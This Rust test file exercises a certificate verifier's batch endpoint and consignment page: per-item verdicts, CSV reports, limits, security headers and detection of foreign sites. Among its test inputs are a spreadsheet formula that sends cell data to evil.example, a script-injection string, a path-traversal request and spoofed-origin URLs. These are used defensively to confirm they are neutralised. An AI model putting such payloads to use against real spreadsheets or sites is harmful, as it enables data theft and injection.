//! A consignment check (issue 48): `POST /api/v1/verify` with a list of items, answered
//! item by item in order; CSV in and out; limits on the list's size and its weight
//! against the client's rate; a stale cache makes every item an error, never VALID. The
//! GS1 items (Digital Link URIs, element strings) are in `gs1.rs`, beside the resolver.

use super::*;

async fn post_list(app: &Router, items: &[String]) -> Reply {
    post_json(app, "/api/v1/verify", serde_json::json!({ "items": items }).to_string()).await
}

/// (outcome, problem, verdict, certificate_id) of each item.
fn rows(json: &Value) -> Vec<(String, String, String, String)> {
    let s = |v: &Value| v.as_str().unwrap_or("").to_owned();
    json["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|i| (s(&i["outcome"]), s(&i["problem"]), s(&i["verdict"]), s(&i["certificate_id"])))
        .collect()
}

fn row(outcome: &str, problem: &str, verdict: &str, id: &str) -> (String, String, String, String) {
    (outcome.into(), problem.into(), verdict.into(), id.into())
}

#[tokio::test]
async fn every_item_answered_on_its_own_in_order() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let ids = &f.ids;
    let url = |id: &str| format!("{PUBLIC_URL}/c/{id}");
    let token = f.token(&ids.valid);
    let items = vec![
        ids.valid.clone(),
        format!("{}?t={token}", url(&ids.valid)),
        format!("{}?t={}", url(&ids.valid), flip(&token, 100, 3)),
        format!("{}?t={}", url(&ids.valid), f.token(&ids.expired)),
        ids.revoked.clone(),
        url(&ids.suspended),
        ids.pending.clone(),
        ids.rejected.clone(),
        ids.superseded.clone(),
        ids.expired.clone(),
        ids.unknown.clone(),
        "hello".into(),
        "  ".into(),
        "NT-abc".into(),
    ];
    let reply = post_list(&app, &items).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());
    let json = reply.json();
    assert_eq!(
        rows(&json),
        vec![
            row("valid", "", "VALID", &ids.valid),
            row("valid", "", "VALID", &ids.valid),
            row("not_valid", "token_invalid", "VALID", &ids.valid),
            row("not_valid", "token_invalid", "VALID", &ids.valid),
            row("not_valid", "revoked", "REVOKED", &ids.revoked),
            row("not_valid", "suspended", "SUSPENDED", &ids.suspended),
            row("not_valid", "not_issued", "PENDING", &ids.pending),
            row("not_valid", "not_issued", "REJECTED", &ids.rejected),
            row("not_valid", "superseded", "SUPERSEDED", &ids.superseded),
            row("not_valid", "expired", "EXPIRED", &ids.expired),
            row("not_valid", "not_found", "UNKNOWN", &ids.unknown),
            row("error", "malformed", "", ""),
            row("error", "malformed", "", ""),
            row("error", "malformed", "", ""),
        ]
    );
    let items_json = json["items"].as_array().expect("items");
    for (i, item) in items_json.iter().enumerate() {
        assert_eq!(item["index"], i, "in the order given");
        assert_eq!(item["input"], items[i].as_str());
        assert!(!item["reason"].as_str().unwrap_or("").is_empty(), "item {i} says why: {item}");
    }
    assert!(items_json[3]["reason"].as_str().unwrap_or("").contains(&ids.expired), "{}", items_json[3]);
    assert!(items_json[4]["reason"].as_str().unwrap_or("").contains(REVOKE_REASON), "{}", items_json[4]);
    assert_eq!(
        json["summary"],
        serde_json::json!({ "total": 14, "valid": 2, "not_valid": 9, "errors": 3, "foreign_site": 0 })
    );
    assert!(json["ledger_block"].as_u64().unwrap_or(0) > 0, "{json}");

    // The same list as CSV, answered as CSV.
    let mut csv = String::from("item\n");
    for item in &items[..5] {
        csv.push_str(&format!("\"{item}\"\n"));
    }
    let request = Request::post("/api/v1/verify")
        .header(header::CONTENT_TYPE, "text/csv")
        .header(header::ACCEPT, "text/csv")
        .body(Body::from(csv))
        .expect("request");
    let reply = send(&app, request).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());
    assert!(reply.header("content-type").starts_with("text/csv"));
    let text = reply.text();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], r#""index","input","outcome","verdict","certificate_id","problem","reason","foreign_site""#);
    assert_eq!(lines.len(), 6, "{text}");
    let v = &ids.valid;
    assert!(lines[1].starts_with(&format!(r#""0","{v}","valid","VALID","{v}","","#)), "{}", lines[1]);
    let r = &ids.revoked;
    assert!(lines[5].starts_with(&format!(r#""4","{r}","not_valid","REVOKED","{r}","revoked","#)), "{}", lines[5]);
}

#[tokio::test]
async fn lists_too_long_empty_or_malformed_are_refused_whole() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let reply = post_list(&app, &vec![f.ids.valid.clone(); 1001]).await;
    assert_eq!(reply.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(reply.json()["message"].as_str().unwrap_or("").contains("at most 1000 items"));
    // 1,000 verification URLs with their tokens: larger than any other request may be.
    let token = f.token(&f.ids.valid);
    let long = vec![format!("{PUBLIC_URL}/c/{}?t={token}", f.ids.valid); 1000];
    let reply = post_list(&app, &long).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(reply.json()["summary"]["valid"], 1000);
    for body in [r#"{"items": []}"#, r#"{"items": [5]}"#, r#"{"items": "NT-A"}"#, r#"{"items": [], "x": 1}"#] {
        let reply = post_json(&app, "/api/v1/verify", body).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{body}");
        assert_eq!(reply.json()["error"], "bad_request", "{body}");
    }
    let request = Request::post("/api/v1/verify")
        .header(header::CONTENT_TYPE, "text/csv")
        .body(Body::from(&b"NT-A\n\xff\n"[..]))
        .expect("request");
    let reply = send(&app, request).await;
    assert_eq!(reply.status, StatusCode::BAD_REQUEST);
    assert!(reply.json()["message"].as_str().unwrap_or("").contains("line 2"), "{}", reply.text());
}

#[tokio::test]
async fn a_list_weighs_one_request_per_ten_items() {
    let f = Fixture::new();
    let mut config = config();
    config.rate_per_sec = 1;
    config.rate_burst = 10;
    let app = router(f.state.clone(), &config);
    let items = vec![f.ids.valid.clone(); 50];
    // 50 items weigh 5 requests: two lists take the burst of 10, a third is refused.
    for round in 0..2 {
        assert_eq!(post_list(&app, &items).await.status, StatusCode::OK, "list {round}");
    }
    let reply = post_list(&app, &items).await;
    assert_eq!(reply.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(reply.headers.contains_key(header::RETRY_AFTER));
    // A list heavier than the whole burst is refused with what it weighs.
    let app = router(f.state.clone(), &config);
    let reply = post_list(&app, &vec![f.ids.valid.clone(); 101]).await;
    assert_eq!(reply.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(reply.json()["message"].as_str().unwrap_or("").contains("weighs 11 requests"), "{}", reply.text());
}

#[tokio::test]
async fn a_stale_cache_makes_every_item_an_error_never_valid() {
    let f = Fixture::new();
    let stale = router(f.stale_state(), &config());
    let items = vec![
        f.ids.valid.clone(),
        format!("{PUBLIC_URL}/c/{}?t={}", f.ids.valid, f.token(&f.ids.valid)),
        "(01)04006381333931(10)L1".to_owned(),
    ];
    let json = post_list(&stale, &items).await.json();
    for item in json["items"].as_array().expect("items") {
        assert_eq!(item["outcome"], "error", "{item}");
        assert_eq!(item["problem"], "unverifiable", "{item}");
    }
    assert_eq!(json["summary"]["valid"], 0);
}

async fn post_form(app: &Router, fields: &[(&str, &str)]) -> Reply {
    let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
    let request = Request::post("/consignment")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::CONTENT_LENGTH, body.len())
        .body(Body::from(body))
        .expect("request");
    send(app, request).await
}

/// The hex digest a report page states.
fn stated_digest(page: &str) -> String {
    let at = page.find("SHA-256 ").unwrap_or_else(|| panic!("no digest on the page:\n{page}")) + "SHA-256 ".len();
    page[at..at + 64].to_owned()
}

#[tokio::test]
async fn only_the_consignment_page_may_use_the_camera_and_run_scripts() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let page = get(&app, "/consignment").await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.header("content-security-policy"), web::CONSIGNMENT_CSP);
    assert_eq!(page.header("permissions-policy"), web::CONSIGNMENT_PERMISSIONS);
    assert!(web::CONSIGNMENT_PERMISSIONS.starts_with("camera=(self),"), "{}", web::CONSIGNMENT_PERMISSIONS);
    let html = page.text();
    assert!(html.contains("integrity=\"sha384-"), "the vendored reader is pinned:\n{html}");
    assert!(html.contains("<textarea id=\"items\" name=\"items\""), "{html}");
    // Every other page keeps the strict policy: no scripts, no camera.
    for uri in ["/", &format!("/c/{}", f.ids.valid), "/nothing-here"] {
        let reply = get(&app, uri).await;
        assert_eq!(reply.header("content-security-policy"), web::CONTENT_SECURITY_POLICY, "{uri}");
        assert!(reply.header("permissions-policy").starts_with("camera=(),"), "{uri}");
    }
    // The report page runs its print button, never the camera.
    let report = post_form(&app, &[("items", &f.ids.valid)]).await;
    assert_eq!(report.header("content-security-policy"), web::CONSIGNMENT_CSP);
    assert!(report.header("permissions-policy").starts_with("camera=(),"));

    // The scripts, with their types; the reader's files are versioned and cached for good.
    for (uri, kind, cache) in [
        ("/assets/consignment.js", "text/javascript; charset=utf-8", "public, max-age=300"),
        ("/assets/zxing-wasm-3.1.4/reader.js", "text/javascript; charset=utf-8", "public, max-age=31536000, immutable"),
        ("/assets/zxing-wasm-3.1.4/zxing_reader.wasm", "application/wasm", "public, max-age=31536000, immutable"),
    ] {
        let reply = get(&app, uri).await;
        assert_eq!(reply.status, StatusCode::OK, "{uri}");
        assert_eq!(reply.header("content-type"), kind, "{uri}");
        assert_eq!(reply.header("cache-control"), cache, "{uri}");
        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{uri}");
    }
    assert!(get(&app, "/assets/zxing-wasm-3.1.4/zxing_reader.wasm").await.body.starts_with(b"\0asm"));
    for missing in ["/assets/", "/assets/zxing-wasm-3.1.3/reader.js", "/assets/../Cargo.toml", "/assets/x.js"] {
        assert_eq!(get(&app, missing).await.status, StatusCode::NOT_FOUND, "{missing}");
    }
}

#[tokio::test]
async fn a_pasted_list_gets_a_printable_report_whose_digest_is_its_csv() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let ids = &f.ids;
    let items = [
        ids.valid.clone(),
        ids.revoked.clone(),
        format!("(01)0{GTIN}(10)LOT-VALID"),
        "<script>alert(1)</script>".to_owned(),
        format!("{PUBLIC_URL}/c/{}?t={}", ids.valid, f.token(&ids.valid)),
    ];
    let list = items.join("\r\n");
    let reply = post_form(&app, &[("items", &list), ("format", "html")]).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());
    let page = reply.text();
    assert!(page.contains("<b class=\"n-valid\">3 valid</b>"), "{page}");
    assert!(page.contains("<b class=\"n-not-valid\">1 not valid</b>"), "{page}");
    assert!(page.contains("<b class=\"n-errors\">1 not checked</b> of 5 items"), "{page}");
    assert!(page.contains("#2 REVOKED, #4 ERROR"), "which items are flagged:\n{page}");
    assert!(!page.contains("<script>alert"), "an item is text, never markup");
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{page}");
    assert!(page.contains(&format!("<a class=\"mono\" href=\"/c/{}\">", ids.revoked)), "{page}");
    assert!(page.contains(REVOKE_REASON), "the reason is on the report");
    let block = f.state.as_of(now()).block;
    assert!(page.contains(&format!("<dd id=\"ledger-block\">{block}</dd>")), "the ledger block:\n{page}");

    // The CSV of the same list is the file the digest names.
    let csv = post_form(&app, &[("items", &list), ("format", "csv")]).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(csv.header("content-disposition"), format!("attachment; filename=\"consignment-block-{block}.csv\""));
    let digest = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&csv.body));
    assert_eq!(stated_digest(&page), digest, "the page's digest is the CSV's SHA-256");
    // … and the API's report of the same items.
    let api = post_list(&app, &items).await.json();
    let api_csv = post(&app, &items).await;
    assert_eq!(api_csv, csv.body, "the page and the API report alike");
    assert_eq!(
        api["summary"],
        serde_json::json!({ "total": 5, "valid": 3, "not_valid": 1, "errors": 1, "foreign_site": 0 })
    );

    // The list kept in the report page downloads the same CSV.
    let kept = page.split("<textarea name=\"items\" hidden>\n").nth(1).and_then(|s| s.split("</textarea>").next());
    let kept = kept.expect("the list is kept in the page").replace("&lt;", "<").replace("&gt;", ">");
    let again = post_form(&app, &[("items", &kept), ("format", "csv")]).await;
    assert_eq!(again.body, csv.body);
}

/// The API's CSV report of `items`.
async fn post(app: &Router, items: &[String]) -> Vec<u8> {
    let body = serde_json::json!({ "items": items }).to_string();
    let request = Request::post("/api/v1/verify")
        .header(header::CONTENT_TYPE, "application/json")
        .header(header::ACCEPT, "text/csv")
        .body(Body::from(body))
        .expect("request");
    send(app, request).await.body
}

#[tokio::test]
async fn a_list_the_page_cannot_check_gets_a_page_saying_why() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let too_many = vec![f.ids.valid.as_str(); 1001].join("\n");
    for (fields, status, says) in [
        (vec![("items", "  \n \n")], StatusCode::BAD_REQUEST, "The list has no items."),
        (vec![("format", "html")], StatusCode::BAD_REQUEST, "The list has no items."),
        (vec![("items", f.ids.valid.as_str()), ("format", "pdf")], StatusCode::BAD_REQUEST, "no report format"),
        (vec![("items", too_many.as_str())], StatusCode::PAYLOAD_TOO_LARGE, "at most 1000 items"),
    ] {
        let reply = post_form(&app, &fields).await;
        assert_eq!(reply.status, status, "{fields:?}");
        let page = reply.text();
        assert!(page.contains("The list was not checked") && page.contains(says), "{fields:?}:\n{page}");
    }
    // Not a form at all.
    let request = Request::post("/consignment")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from("{}"))
        .expect("request");
    let reply = send(&app, request).await;
    assert_eq!(reply.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert!(reply.text().contains("The form cannot be read"), "{}", reply.text());
}

/// CSV injection (issue 71): a code that a spreadsheet would run as a formula comes back
/// in the CSV report — the API's and the page's download — as text, quoted and with a `'`
/// before it; the JSON report says what was given.
#[tokio::test]
async fn a_formula_item_is_text_in_the_csv_report_and_as_given_in_the_json() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let formula = r#"=HYPERLINK("http://evil.example/?q="&A1,"Verify")"#;
    let items = vec![formula.to_owned(), "@SUM(1+1)".to_owned(), f.ids.valid.clone(), "-1+2".to_owned()];
    let json = post_list(&app, &items).await.json();
    assert_eq!(json["items"][0]["input"], formula, "the JSON report says what was given");
    assert_eq!(json["items"][1]["input"], "@SUM(1+1)");
    let csv = String::from_utf8(post(&app, &items).await).expect("UTF-8");
    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?q=""&A1,""Verify"")""#), "{csv}");
    assert!(csv.contains(r#""'@SUM(1+1)""#) && csv.contains(r#""'-1+2""#), "{csv}");
    for line in csv.lines() {
        for start in ["=", "+", "-", "@", "\"=", "\"+", "\"-", "\"@"] {
            assert!(!line.starts_with(start), "a cell a spreadsheet runs: {line}");
            for sep in [",", ";", "\t"] {
                assert!(!line.contains(&format!("{sep}{start}")), "a cell a spreadsheet runs: {line}");
            }
        }
    }
    // The page's list is CSV (the item in the first field): the formula quoted as CSV.
    let list: Vec<String> = items.iter().map(|i| format!("\"{}\"", i.replace('"', "\"\""))).collect();
    let list = list.join("\n");
    let page_csv = post_form(&app, &[("items", &list), ("format", "csv")]).await;
    assert_eq!(String::from_utf8_lossy(&page_csv.body), csv, "the page's download is the same CSV");
}

/// Another site (issue 71): a verification URL whose origin (scheme, host, port) is not
/// this verifier's is `foreign_site` — named, never `valid`, whatever its certificate is —
/// in the JSON, the CSV and the page; a GS1 Digital Link on another host is checked by its
/// GS1 identification and the report names the host.
#[tokio::test]
async fn an_item_of_another_site_is_named_never_valid() {
    let f = Fixture::new();
    let app = app(f.state.clone());
    let valid = &f.ids.valid;
    let token = f.token(valid);
    let items = vec![
        format!("https://evil.example/c/{valid}"),
        format!("https://evil.example/c/{valid}?t={token}"),
        format!("https://verify.example.org@evil.example/c/{valid}"),
        format!("http://verify.example.org/c/{valid}"),
        format!("https://verify.example.org:8443/c/{valid}"),
        format!("{PUBLIC_URL}/c/{valid}?t={token}"),
        format!("https://id.example.org/01/0{GTIN}/10/LOT-VALID"),
        format!("{PUBLIC_URL}/01/0{GTIN}/10/LOT-VALID"),
    ];
    let json = post_list(&app, &items).await.json();
    let got: Vec<(String, String, String, String)> = json["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|i| {
            let s = |v: &Value| v.as_str().unwrap_or("").to_owned();
            (s(&i["outcome"]), s(&i["problem"]), s(&i["verdict"]), s(&i["foreign_site"]))
        })
        .collect();
    let want = |o: &str, p: &str, v: &str, site: &str| (o.to_owned(), p.to_owned(), v.to_owned(), site.to_owned());
    let foreign = |site: &str| want("foreign_site", "foreign_site", "", site);
    assert_eq!(
        got,
        vec![
            foreign("https://evil.example"),
            foreign("https://evil.example"),
            foreign("https://evil.example"),
            foreign("http://verify.example.org"),
            foreign("https://verify.example.org:8443"),
            want("valid", "", "VALID", ""),
            want("valid", "", "VALID", "https://id.example.org"),
            want("valid", "", "VALID", ""),
        ],
        "{json}"
    );
    let reason = |i: usize| json["items"][i]["reason"].as_str().unwrap_or("").to_owned();
    assert!(reason(0).contains("evil.example") && reason(0).contains(PUBLIC_URL), "{}", reason(0));
    assert!(reason(6).contains("id.example.org"), "the report names the Digital Link's host: {}", reason(6));
    assert_eq!(json["items"][0]["certificate_id"], valid.as_str(), "the certificate to look up here");
    assert_eq!(
        json["summary"],
        serde_json::json!({ "total": 8, "valid": 3, "not_valid": 0, "errors": 0, "foreign_site": 5 })
    );
    // The CSV says it in its own column; the page flags the items.
    let csv = String::from_utf8(post(&app, &items).await).expect("UTF-8");
    assert!(csv.lines().next().unwrap_or("").ends_with(r#","reason","foreign_site""#), "{csv}");
    assert!(
        csv.contains(&format!(r#""foreign_site","","{valid}","foreign_site","#))
            && csv.contains(r#","https://evil.example""#),
        "{csv}"
    );
    let page = post_form(&app, &[("items", &items.join("\n")), ("format", "html")]).await.text();
    assert!(page.contains("#1 OTHER SITE"), "{page}");
    assert!(page.contains("<b class=\"n-foreign-site\">5 name another site</b>"), "{page}");
}
